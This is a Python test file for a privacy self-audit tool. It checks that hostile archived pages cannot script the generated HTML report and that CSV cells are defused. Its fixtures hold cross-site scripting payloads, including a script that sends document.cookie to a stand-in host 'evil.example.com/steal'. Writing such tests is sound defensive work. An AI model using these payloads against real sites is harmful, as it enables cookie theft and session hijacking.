"""A hostile page must not script the report: pages with script tags, event handlers,
javascript: links and CSS injection go through a whole audit (CLI, offline), and report.html
stays inert."""

from __future__ import annotations

import json
from pathlib import Path

import lxml.html

from tests.conftest import run_cli
from tests.warcutil import HTML, write_warc

PROFILE = """
[audit]
jurisdiction = "US-CA"

[consent]
authorized_by = "Hon. Ann Example"
authorized_on = 2026-11-20
purpose = "self-audit"
statement = "I authorize a search of public sources for my own information."

[subject]
id = "judge"
name = "Ann Example"
city = "Springfield"
phones = ["+1 707 555 0100"]

[probes]
enabled = ["web"]
"""

EVIL = '<img src=x onerror="alert(1)">'
PAGES = {
    "https://evil.example.com/ann": f"""<html><head><title>Ann Example <script>alert('t')</script></title>
<style>body {{ }} </style><script>document.location='https://evil.example.com/steal?'+document.cookie</script>
</head><body onload="alert(2)">
<h1>Ann Example of Springfield</h1>
<p>Call Ann Example in Springfield at (707) 555-0100 {EVIL}</p>
<p><a href="javascript:alert(3)">Ann Example profile</a> &lt;/style&gt;&lt;script&gt;alert(4)&lt;/script&gt;</p>
<p>Ann Example, Springfield: email ann.example@example.com "&gt;&lt;svg onload=alert(5)&gt;</p>
</body></html>""",
    "https://evil.example.com/javascript:alert(6)": """<html><body><p>Ann Example, Springfield,
phone 707.555.0100</p><iframe src="javascript:alert(7)"></iframe></body></html>""",
}


def test_hostile_pages_leave_the_report_inert(tmp_path: Path, footprint_home: Path) -> None:
    prof = tmp_path / "p.toml"
    prof.write_text(PROFILE)
    warc = write_warc(tmp_path / "evil.warc.gz", [(u, 200, HTML, b) for u, b in PAGES.items()])
    out = tmp_path / "out"
    r = run_cli(["audit", str(prof), "--web-archive", str(warc), "--out", str(out), "--format", "html,json,csv"],
                footprint_home)
    assert r.returncode == 0, r.stderr
    data = json.loads((out / "findings.json").read_text())
    assert any(f["category"] == "phone" for f in data["findings"]), "the hostile page was not analyzed"

    raw = (out / "report.html").read_text()
    doc = lxml.html.fromstring(raw)
    assert not doc.xpath("//script"), "a <script> element reached the report"
    assert not doc.xpath("//iframe|//object|//embed|//svg//script|//base|//form")
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name)
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href"):
                v = value.strip().lower()
                assert not v.startswith(("javascript:", "data:text", "vbscript:")), (el.tag, value)
                assert not v.startswith(("http://", "//")), f"external load: {value}"
    csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert csp and "default-src 'none'" in csp[0] and "script-src" not in csp[0].replace("default-src 'none'", "")
    # the page's words are shown as text, escaped
    assert "onerror" not in raw or "&lt;img" in raw or "onerror=&#34;" in raw or "onerror=&quot;" in raw
    assert "<img src=x" not in raw
    assert "&lt;svg onload" in raw, "the hostile snippet did not reach the report (test proves nothing)"
    # CSV cells a spreadsheet would run are defused
    for line in (out / "findings.csv").read_text().splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@")), cell
